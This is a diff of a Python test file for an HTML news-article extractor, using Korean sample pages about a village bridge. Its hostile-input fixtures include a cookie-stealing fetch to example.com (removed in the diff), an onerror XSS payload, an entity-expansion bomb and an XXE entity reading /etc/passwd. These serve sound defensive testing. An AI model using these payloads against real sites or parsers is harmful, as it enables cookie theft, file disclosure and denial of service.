@@ -18,6 +18,7 @@ LEAD = "마을은 다리를 놓는 데 12억원을 쓰기로 했다고 13일 밝
 QUOTE = "이장은 “인부 30명이 내년 말까지 일한다”며 “물이 불어도 다리는 무너지지 않을 것”이라고 말했다."
 LAST = "이웃 마을은 1억원을 보태기로 했다. 나머지는 군이 낸다."
 DOUBLE, NEIGHBOUR, COUNTY = "공사비, 처음의 두 배", "이웃 마을도 1억원 보태", "군도 돈을 낸다"
+STRAIGHT = QUOTE.replace("“", '"').replace("”", '"')
 WIRED = "(마을=마을통신) 나예시 기자 = "
 
 # The page, its own words, and publisher, author and the day of the last change.
@@ -28,8 +29,7 @@ LAYOUTS = [
     ("daily_paper", [HEADLINE, CAPTION, LEAD, QUOTE, COUNTY, LAST], "마을일보", "나예시, 한바람", date(2024, 3, 14)),
     ("weekly_paper", [HEADLINE, DOUBLE, CAPTION, LEAD, QUOTE, LAST], "마을겨레", "나예시", date(2024, 3, 14)),
     ("small_paper", [HEADLINE, DOUBLE, NEIGHBOUR, CAPTION, LEAD, QUOTE, LAST], "마을신문", "나예시", date(2024, 3, 14)),
-    ("wire", [HEADLINE, DOUBLE, NEIGHBOUR, "새 다리 조감도", WIRED + LEAD, QUOTE.replace("“", '"').replace("”", '"'), LAST],
-     "마을통신", "나예시", None),
+    ("wire", [HEADLINE, DOUBLE, NEIGHBOUR, "새 다리 조감도", WIRED + LEAD, STRAIGHT, LAST], "마을통신", "나예시", None),
 ]  # fmt: skip
 
 
@@ -57,6 +57,19 @@ def test_no_figure_of_a_list_or_a_script_enters_the_tables() -> None:
     assert set(tables.headcounts["surface"]) == {"30명"}
 
 
+def linked(told: str) -> str:
+    return f'<script type="application/ld+json">{told}</script>'
+
+
+def meta(**told: str) -> str:
+    return "".join(
+        f'<meta property="og:{name.replace("_", ":")}" content="{content}">' for name, content in told.items()
+    )
+
+
+SITE = '<meta property="og:site_name" content="{}">'
+
+
 def page(head: str = "", body: str = f"<h1>{HEADLINE}</h1><p>{LEAD}</p><p>{LAST}</p>") -> str:
     return f"<!doctype html><html><head>{head}</head><body>{body}</body></html>"
 
@@ -67,10 +80,10 @@ def page(head: str = "", body: str = f"<h1>{HEADLINE}</h1><p>{LEAD}</p><p>{LAST}
         ('<meta property="article:published_time" content="2024-03-12T22:30:00Z">', date(2024, 3, 13)),
         ('<meta property="article:published_time" content="2024-03-13T05:00:00+09:00">', date(2024, 3, 13)),
         ('<meta name="og:regDate" content="20240313101507">', date(2024, 3, 13)),
-        ('<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"2024-03-13"}</script>', date(2024, 3, 13)),
-        ('<script type="application/ld+json">{"@graph":[{"@type":["NewsArticle"],"datePublished":"2024-03-13"}]}</script>', date(2024, 3, 13)),
-        ('<script type="application/ld+json">{"@type":"WebSite","datePublished":"2024-03-13"}</script>', None),
-        ('<script type="application/ld+json">{"@type":"NewsArticle", broken</script>', None),
+        (linked('{"@type":"NewsArticle","datePublished":"2024-03-13"}'), date(2024, 3, 13)),
+        (linked('{"@graph":[{"@type":["NewsArticle"],"datePublished":"2024-03-13"}]}'), date(2024, 3, 13)),
+        (linked('{"@type":"WebSite","datePublished":"2024-03-13"}'), None),
+        (linked('{"@type":"NewsArticle", broken'), None),
         ('<meta property="article:modified_time" content="2024-03-13T05:00:00+09:00">', None),
         ('<meta property="article:published_time" content="0001-01-01T00:00:00Z">', None),
     ],
@@ -83,11 +96,11 @@ def test_the_day_of_the_metadata(head: str, day: date | None) -> None:
 @pytest.mark.parametrize(
     ("head", "publisher"),
     [
-        ('<meta property="og:site_name" content="마을신문">', "마을신문"),
-        ('<meta property="og:site_name" content="네이버 뉴스"><meta property="og:article:author" content="마을신문 | 네이버">', "마을신문"),
-        ('<meta property="og:site_name" content="다음 - 마을신문">', "마을신문"),
-        ('<meta property="og:site_name" content="Daum">', None),
-        ('<meta property="og:article:author" content="나예시 기자"><meta property="og:site_name" content="마을신문">', "마을신문"),
+        (SITE.format("마을신문"), "마을신문"),
+        (SITE.format("네이버 뉴스") + meta(article_author="마을신문 | 네이버"), "마을신문"),
+        (SITE.format("다음 - 마을신문"), "마을신문"),
+        (SITE.format("Daum"), None),
+        (meta(article_author="나예시 기자") + SITE.format("마을신문"), "마을신문"),
         ('<meta name="twitter:creator" content="@maul">', "maul"),
     ],
     ids=str,
@@ -111,8 +124,8 @@ def test_the_title_is_the_headline(tmp_path: Path, title: str, read: str) -> Non
 
 
 HOSTILE = {
-    "scripts": page("<script>fetch('http://example.com/' + document.cookie)</script>", f"<p>{LEAD}</p><img src=x onerror=alert(1)>"),
-    "billion laughs": '<!DOCTYPE html [<!ENTITY a "하"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><p>&b;&b; ' + LEAD + "</p>",
+    "scripts": page("<script>fetch('http://example.com/')</script>", f"<p>{LEAD}</p><img src=x onerror=alert(1)>"),
+    "billion laughs": f'<!DOCTYPE html [<!ENTITY a "하"><!ENTITY b "{"&a;" * 9}">]><p>{"&b;" * 9} {LEAD}</p>',
     "a file as entity": '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>&a; ' + LEAD + "</p>",
     "cut off in a tag": page().partition(LAST)[0] + "<p cla",
     "deep": "<div>" * 5000 + f"<p>{LEAD}</p>",
